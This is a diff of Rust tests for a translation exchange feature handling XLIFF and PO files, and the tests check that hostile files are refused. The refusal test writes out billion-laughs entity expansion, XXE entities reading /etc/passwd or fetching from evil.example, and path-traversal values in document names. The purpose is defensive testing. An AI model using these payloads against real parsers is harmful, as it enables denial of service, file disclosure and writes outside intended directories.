@@ -99,6 +99,9 @@ fn one_text_changes_its_own_bytes_alone_in_every_format() {
     let before = site.sources.text(&SourcePath::new("content/about.fr.md")).unwrap().to_owned();
     for format in FORMATS {
         let text = export(&site, format);
+        assert_eq!(export(&site, format), text);
+        let unchanged = import(&site.sources, &text, Trust::default());
+        assert_eq!((unchanged.edits.len(), unchanged.taken, unchanged.refused.len()), (0, 0, 0), "{format:?}");
         let changed = text.replace("Nous, donc.", "Nous, enfin.").replace("trois", "quatre");
         assert_ne!(changed, text);
         let imported = import(&site.sources, &changed, Trust::default());
@@ -232,17 +235,38 @@ fn what_tools_do_to_xliff_is_understood() {
 #[test]
 fn hostile_files_are_refused() {
     let read = |text: &str| exchange::read(text.as_bytes()).map_err(|fault| fault.to_string());
-    let bomb = "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;\">]><xliff version=\"1.2\"><file original=\"about\" target-language=\"fr\"/></xliff>";
-    assert!(read(bomb).unwrap_err().contains("document type"));
+    let file = "<xliff version=\"1.2\"><file original=\"about\" target-language=\"fr\"><body><trans-unit id=\"a\">\
+                <source>&b;</source><target>&b;</target></trans-unit></body></file></xliff>";
+    let laughs: String =
+        (1..10).map(|at| format!("<!ENTITY l{at} \"{}\">", format!("&l{};", at - 1).repeat(10))).collect();
+    for declared in [
+        format!("<!DOCTYPE x [<!ENTITY l0 \"lol\">{laughs}<!ENTITY b \"&l9;\">]>"),
+        "<!DOCTYPE x [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>".to_owned(),
+        "<!DOCTYPE x SYSTEM \"https://evil.example/x.dtd\">".to_owned(),
+        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"https://evil.example/p\">%p;]>".to_owned(),
+    ] {
+        let fault = read(&format!("<?xml version=\"1.0\"?>{declared}{file}")).unwrap_err();
+        assert!(fault.contains("document type"), "{fault}");
+    }
+    assert!(read(file).unwrap_err().contains("an entity is named that the file cannot define"));
     assert!(exchange::read(&[0xff, 0xfe, 0x3c, 0]).unwrap_err().to_string().contains("UTF-16"));
     let site = about("One.\n", "Un.\n");
     let text = export(&site, Format::Xliff);
     assert_eq!(exchange::read(format!("\u{feff}{text}").as_bytes()).unwrap().len(), 1);
-    let outside = text.replace("original=\"about\"", "original=\"../../etc/x\"");
-    let incoming = exchange::read(outside.as_bytes()).unwrap();
-    with(&site.sources, |setting| {
-        assert!(Import { setting, trust: Trust::default() }.document(&incoming[0]).is_err());
-    });
+    for outside in ["../../etc/x", "/etc/x", "..\\\\..\\\\etc\\\\x", "about/../../x", "", "."] {
+        for format in [Format::Xliff, Format::Xliff2, Format::Po] {
+            let text = export(&site, format);
+            let changed = text
+                .replace("original=\"about\"", &format!("original=\"{outside}\""))
+                .replace("X-Document: about", &format!("X-Document: {outside}"));
+            assert_ne!(changed, text);
+            let Ok(incoming) = exchange::read(changed.as_bytes()) else { continue };
+            with(&site.sources, |setting| {
+                let trust = Trust { take_conflicts: true, new_markup: true, approved: true };
+                assert!(Import { setting, trust }.document(&incoming[0]).is_err(), "{format:?}: {outside}");
+            });
+        }
+    }
 }
 
 #[test]
@@ -344,6 +368,21 @@ fn a_file_that_contradicts_itself_raises_nothing() {
     let imported = import(&site.sources, &changed, Trust { approved: true, ..Trust::default() });
     assert!(imported.notes.iter().any(|note| note.contains("approved and `needs-translation`")), "{imported:?}");
     assert_eq!(imported.taken, 0);
+}
+
+#[test]
+fn a_file_without_states_makes_nothing_reviewed() {
+    let mut site = about("One.\n", "Un.\n");
+    let said = "translation: { status: draft }\ntitle: Nous\nsummary: Nous.\n";
+    site.write("content/about.fr.md", format!("---\n{said}---\n\nUn.\n"));
+    let text = export(&site, Format::Xliff);
+    let bare = text.replace(" state=\"translated\"", "").replace(" approved=\"no\"", "").replace(">Un.<", ">Une.<");
+    assert!(!bare.contains("state=") && !bare.contains("approved="), "{bare}");
+    for approved in [false, true] {
+        let imported = import(&site.sources, &bare, Trust { approved, ..Trust::default() });
+        assert_eq!(imported.taken, 1, "{imported:?}");
+        assert!(french(&imported).contains("status: draft") && french(&imported).contains("Une."), "{imported:?}");
+    }
 }
 
 #[test]
